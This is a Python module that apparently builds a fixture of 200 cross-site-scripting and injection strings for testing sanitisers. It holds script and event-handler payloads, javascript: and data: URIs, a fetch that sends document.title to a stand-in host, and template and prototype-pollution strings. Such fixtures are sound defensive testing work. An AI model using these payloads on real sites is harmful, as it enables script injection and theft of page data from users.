"""Texts that try to become something else than text: each kind of trick, in each place it works.

Made by putting together payloads, ways to set them off, and ways to hide them. Each one, should it
run, counts itself in `window.ran`, opens a dialog, or asks another computer.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

COUNT = 200
_PAYLOADS = (
    "window.ran=(window.ran||0)+1",
    "top.ran++",
    "alert(document.domain)",
    "fetch('//elsewhere.example/?'+document.title)",
    "new Image().src='http://elsewhere.example/'+Math.random()",
)
_ELEMENTS = (
    "<script>{}</script>",
    "<script src=//elsewhere.example/a.js></script><!--{}-->",
    '<img src=x onerror="{}">',
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<body onload="{}">',
    '<details open ontoggle="{}">x</details>',
    '<input autofocus onfocus="{}">',
    '<video><source onerror="{}"></video>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<math><mtext href="javascript:{}">x</mtext></math>',
    '<a href="javascript:{}" id=x>press</a>',
    '<form action="javascript:{}"><button>press</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    "<style>@import'http://elsewhere.example/'</style><b onclick='{}'>x</b>",
    "<template><img src=x onerror='{}'></template>",
    "<base href=http://elsewhere.example/><script>{}</script>",
)
_BREAKS = ("{}", '">{}', "'>{}", "</title>{}", "</script>{}", "-->{}", "]]>{}", "`${{0}}`{}")
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript://elsewhere.example/%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload={}>",
    "blob:http://elsewhere.example/{}",
    "file:///etc/passwd#{}",
    "//elsewhere.example/{}",
    "\\\\elsewhere.example\\{}",
    "https:javascript:{}",
)
_WORDS = (
    "[press](javascript:{})",
    "![x](javascript:{})",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "';{};'",
    '";{};"',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\u202e>tpircs/<{}>tpircs<",
    '{{"__proto__":{{"ran":1}},"x":"{}"}}',
    "{}\u2028{}",
)


def hostile_texts() -> list[str]:
    """Two hundred of them, each another text, the kinds mixed."""
    return _mixed(_texts())


def hostile_addresses() -> list[str]:
    """Addresses that must not become a link, or one that runs something."""
    return [form.format(quote(payload, safe="()=.'")) for form, payload in _pairs(_ADDRESSES)]


def _texts() -> Iterator[str]:
    for number, (form, payload) in enumerate(_pairs(_ELEMENTS)):
        yield _BREAKS[number % len(_BREAKS)].format(form.format(payload))
    yield from hostile_addresses()
    for form, payload in _pairs(_WORDS):
        yield form.replace("{}", payload) if form.count("{}") > 1 else form.format(payload)


def _pairs(forms: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    return iter(product(forms, _PAYLOADS))


def _mixed(texts: Iterator[str]) -> list[str]:
    """Every seventh, and so on: neighbours are of other kinds. 7 divides no count of them."""
    unique = list(dict.fromkeys(texts))
    step = 7
    found = [unique[(index * step) % len(unique)] for index in range(len(unique))]
    chosen = list(dict.fromkeys(found))[:COUNT]
    assert len(chosen) == COUNT
    return chosen
